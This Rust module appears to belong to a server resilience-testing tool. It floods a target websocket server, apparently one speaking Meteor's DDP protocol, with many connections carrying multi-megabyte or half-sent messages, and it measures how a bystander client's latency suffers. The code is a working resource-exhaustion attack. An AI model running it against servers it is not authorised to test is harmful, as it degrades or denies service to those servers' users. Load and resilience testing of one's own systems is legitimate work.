//! Messages as large as the server takes, and dear to read.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use futures::future::join_all;
use tokio::time::timeout;

use super::bystander::Bystander;
use super::scene::histogram;
use super::wire::{Frame, Wire};
use super::{Error, Findings, SECONDS_MAX, Victim};
use crate::load::Latency;

/// What another client sends and gets meanwhile, with each call of `echo`.
const CALL_BYTES: usize = 100 * 1024;

/// Sends large messages on many connections, each as fast as the server reads them.
#[derive(Clone, Debug, clap::Args)]
pub struct Bytes {
    /// How many connections.
    #[arg(long, default_value_t = 1, value_parser = clap::value_parser!(u32).range(1..=1000))]
    count: u32,
    /// How many messages each sends.
    #[arg(long, default_value_t = 60, value_parser = clap::value_parser!(u32).range(1..=100_000))]
    messages: u32,
    /// The size of a message, in bytes.
    #[arg(long, default_value_t = 4_000_000, value_parser = clap::value_parser!(u32).range(100..=4_190_000))]
    size: u32,
    /// What a message asks for.
    #[arg(long, value_enum, default_value_t = Kind::Sub)]
    kind: Kind,
    /// The publication, or the method.
    #[arg(long, default_value = "notes")]
    name: String,
    /// What the parameters consist of, each followed by a comma.
    #[arg(long, default_value = "[]")]
    filler: String,
    /// Whether messages are compressed.
    #[arg(long)]
    deflate: bool,
    /// Whether nothing is read of what the server answers.
    #[arg(long)]
    unread: bool,
    /// How long it lasts at most.
    #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u64).range(1..=SECONDS_MAX))]
    seconds: u64,
}

/// A message of a client.
#[derive(Clone, Copy, Debug, clap::ValueEnum)]
enum Kind {
    /// A subscription of its own.
    Sub,
    /// A call.
    Method,
    /// A call with all of that in one parameter, as `echo` takes it.
    Echo,
    /// Half a message, and no more.
    Half,
}

impl Bytes {
    /// The frame of a message with this id.
    fn frame(&self, id: u32) -> Frame {
        let (msg, name) = match self.kind {
            Kind::Sub => ("sub", "name"),
            Kind::Method | Kind::Echo | Kind::Half => ("method", "method"),
        };
        let count = self.size as usize / (self.filler.len() + 1);
        let params = format!("{},", self.filler).repeat(count.max(1));
        let params = params.trim_end_matches(',');
        let (open, close) = if matches!(self.kind, Kind::Echo) { ("[[", "]]") } else { ("[", "]") };
        let text = format!(
            r#"{{"msg":"{msg}","id":"{id}","{name}":"{}","params":{open}{params}{close}}}"#,
            self.name
        );
        let frame = Frame::new(&text, self.deflate);
        if matches!(self.kind, Kind::Half) { frame.half() } else { frame }
    }

    /// Makes the attack.
    ///
    /// # Errors
    /// If the server cannot be reached.
    pub async fn run(&self, victim: Victim) -> Result<Findings, Error> {
        // Built for once, since the attacker shares the processor with the server.
        let distinct = if matches!(self.kind, Kind::Sub) { self.messages.min(60) } else { 1 };
        let frames: Arc<Vec<Frame>> = Arc::new((0..distinct).map(|id| self.frame(id)).collect());
        let (sent, bytes) = (AtomicU64::new(0), AtomicU64::new(0));
        let attack = join_all((0..self.count).map(|_| async {
            let mut wire = Wire::connect(victim, self.deflate, self.unread).await?;
            for frame in frames.iter().cycle().take(self.messages as usize) {
                if wire.send(frame).await.is_err() {
                    return Ok(());
                }
                sent.fetch_add(1, Ordering::Relaxed);
                bytes.fetch_add(frame.bytes() as u64, Ordering::Relaxed);
                if matches!(self.kind, Kind::Half) {
                    break;
                }
            }
            // What was sent is to be kept for as long as the attack lasts.
            wire.closed().await;
            Ok::<_, Error>(())
        }));
        let attack = timeout(Duration::from_secs(self.seconds), attack);
        let mut caller = Bystander::connect(victim).await?;
        let mut calls = histogram();
        let ended = tokio::select! {
            ended = attack => ended,
            () = caller.call(CALL_BYTES, &mut calls) => unreachable!("it calls for ever"),
        };
        let ends = ended.unwrap_or_default();
        let cut_off = ends.len();
        ends.into_iter().collect::<Result<(), Error>>()?;
        Ok(vec![
            ("connections", self.count.to_string()),
            ("of these cut off", cut_off.to_string()),
            ("messages taken", sent.into_inner().to_string()),
            ("megabytes on the wire", (bytes.into_inner() / 1_000_000).to_string()),
            ("another client's calls", format!("{}: {}", calls.len(), Latency::of(&calls))),
        ])
    }
}
